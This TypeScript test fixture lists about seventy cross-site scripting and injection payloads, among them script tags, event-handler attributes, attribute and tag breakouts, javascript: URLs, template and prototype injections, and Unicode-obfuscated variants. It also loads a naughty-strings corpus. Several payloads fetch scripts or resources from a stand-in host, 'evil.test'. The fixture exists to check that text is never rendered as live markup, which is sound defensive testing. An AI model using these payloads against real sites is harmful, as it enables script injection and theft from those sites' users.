import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const NAUGHTY = fileURLToPath(new URL('../../../../shared/data/badinput/blns/blns.json', import.meta.url));

/** Nobody answers here: a request to it means that text came alive. */
const HOST = 'evil.test';

/**
 * Text that calls `trap()` or asks another host for something if any screen takes it for more than
 * text: as markup, in an attribute, an address, a style, a script or a template.
 */
export const PAYLOADS: readonly string[] = [
  // Elements.
  '<script>trap(1)</script>',
  '<ScRiPt >trap(2)</sCrIpT>',
  `<script src="//${HOST}/3.js"></script>`,
  `<script type="module">import("http://${HOST}/4.js")</script>`,
  '<img src=x onerror=trap(5)>',
  '<img/src=x/onerror=trap(6)//',
  '<img src=x onerror="window[`tr`+`ap`](7)">',
  `<img src="http://${HOST}/8.png">`,
  `<img srcset="//${HOST}/9.png 1x" alt=nine>`,
  '<svg onload=trap(10)>',
  '<svg><script>trap(11)</script></svg>',
  '<svg><animate onbegin=trap(12) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=trap(13)></style></svg>',
  `<svg><image href="http://${HOST}/14.svg"/></svg>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=trap(15)>',
  '<iframe src="javascript:parent.trap(16)"></iframe>',
  '<iframe srcdoc="<script>parent.trap(17)</script>"></iframe>',
  `<object data="http://${HOST}/18.html"></object>`,
  `<embed src="http://${HOST}/19.html">`,
  '<body onload=trap(20)>',
  '<input autofocus onfocus=trap(21)>',
  '<details open ontoggle=trap(22)>twenty-two',
  '<video src=x onerror=trap(23)></video>',
  '<audio><source src=x onerror=trap(24)></audio>',
  '<p tabindex=0 id=x style="animation:x" onanimationstart=trap(25)>twenty-five',
  `<base href="http://${HOST}/26/">`,
  `<meta http-equiv="refresh" content="0;url=http://${HOST}/27">`,
  `<link rel=stylesheet href="http://${HOST}/28.css">`,
  `<style>@import "http://${HOST}/29.css";</style>`,
  `<div style="background:url(http://${HOST}/30.png)">thirty</div>`,
  '<form action="javascript:trap(31)"><button autofocus>go</button></form>',
  '<template><img src=x onerror=trap(32)></template>',
  '<noscript><p title="</noscript><img src=x onerror=trap(33)>">',
  // Out of where the text stands.
  '"><img src=x onerror=trap(34)>',
  "'><svg onload=trap(35)>",
  '</script><script>trap(36)</script>',
  '</title><img src=x onerror=trap(37)>',
  '</textarea><img src=x onerror=trap(38)>',
  '</style><img src=x onerror=trap(39)>',
  '--><img src=x onerror=trap(40)>',
  ']]><img src=x onerror=trap(41)>',
  '" autofocus onfocus="trap(42)" x="',
  "' onmouseover='trap(43)' style='position:fixed;inset:0' x='",
  "';trap(44);//",
  '`-trap(45)-`',
  "\\');trap(46);//",
  `*/trap(47)/*"/*'/*--></title></style></textarea></script><svg/onload=trap(47)>`,
  // Addresses.
  'javascript:trap(48)',
  'JaVaScRiPt:trap(49)//http://shop.example',
  'java\tscript:trap(50)',
  'data:text/html,<script>trap(51)</script>',
  `//${HOST}/52`,
  '<a href="javascript:trap(53)" autofocus>fifty-three</a>',
  // Templates, message formats, prototypes.
  "{{constructor.constructor('trap(54)')()}}",
  '$' + '{trap(55)}',
  '<%= trap(56) %>',
  '{trap, plural, one {fifty} other {seven}}',
  "'{58}' and '' and {",
  '__proto__',
  'constructor',
  // Disguises.
  '&lt;img src=x onerror=trap(61)&gt;',
  '\\u003cimg src=x onerror=trap(62)\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dtrap(63)%3E',
  '＜script＞trap(64)＜/script＞',
  '\u202e<img src=x onerror=trap(65)>\u202c',
  '<scr\u200bipt>trap(66)</scr\u200bipt>',
  '<img \u00a0src=x onerror\u2028=trap(67)>',
  '<im\u0131g src=x onerror=trap(68)>\ufeff',
];

/** The naughty strings of the shared corpus; none where it is not at hand. */
export function naughtyStrings(): readonly string[] {
  return existsSync(NAUGHTY) ? (JSON.parse(readFileSync(NAUGHTY, 'utf8')) as string[]) : [];
}
